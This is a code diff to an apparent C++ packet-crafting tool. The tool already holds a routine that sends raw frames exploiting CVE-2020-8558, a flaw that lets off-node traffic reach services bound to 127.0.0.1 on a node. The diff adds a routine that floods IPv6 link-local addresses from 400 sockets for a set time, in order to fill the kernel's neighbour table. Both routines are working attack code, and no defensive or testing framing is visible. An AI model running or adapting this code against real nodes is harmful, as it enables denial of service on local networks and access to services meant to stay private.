@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: Apache-2.0
-// CVE-2020-8558: a frame to the node's link address whose packet is for 127.0.0.1.
+// Packets that the node did not ask for. CVE-2020-8558: a frame to its link address whose packet is for 127.0.0.1.
 #include <arpa/inet.h>
 #include <linux/if_packet.h>
 #include <net/ethernet.h>
@@ -10,6 +10,8 @@
 #include <sys/socket.h>
 #include <unistd.h>
 
+#include <array>
+#include <chrono>
 #include <cstdio>
 #include <cstring>
 #include <iostream>
@@ -82,6 +84,31 @@ int Martian(const Words& words) {
     frame.network.check = 0;
     frame.network.check = Sum(&frame.network, sizeof frame.network);
     sent += ::sendto(fd, &frame, sizeof frame, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) > 0;
+  }
+  std::cout << "done " << sent << std::endl;
+  return 0;
+}
+
+// Each of them keeps a place of the kernel's table of neighbours while its address is asked for. Of a socket a few
+// hundred datagrams may wait for that.
+int Neighbours(const Words& words) {
+  using Clock = std::chrono::steady_clock;
+  if (words.size() != 2) return 2;
+  std::array<int, 400> sockets{};
+  for (int& fd : sockets) fd = ::socket(AF_INET6, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
+  sockaddr_in6 to{};
+  to.sin6_family = AF_INET6;
+  to.sin6_port = htons(9);
+  to.sin6_scope_id = ::if_nametoindex(words[1].c_str());
+  ::inet_pton(AF_INET6, "fe80::", &to.sin6_addr);
+  const auto end = Clock::now() + std::chrono::seconds(std::stol(words[0]));
+  uint32_t number = 0;
+  long sent = 0;
+  while (Clock::now() < end) {
+    const uint32_t low = htonl(++number);
+    std::memcpy(to.sin6_addr.s6_addr + 12, &low, sizeof low);
+    const int fd = sockets[number % sockets.size()];
+    sent += ::sendto(fd, "x", 1, 0, reinterpret_cast<sockaddr*>(&to), sizeof to) > 0;
   }
   std::cout << "done " << sent << std::endl;
   return 0;
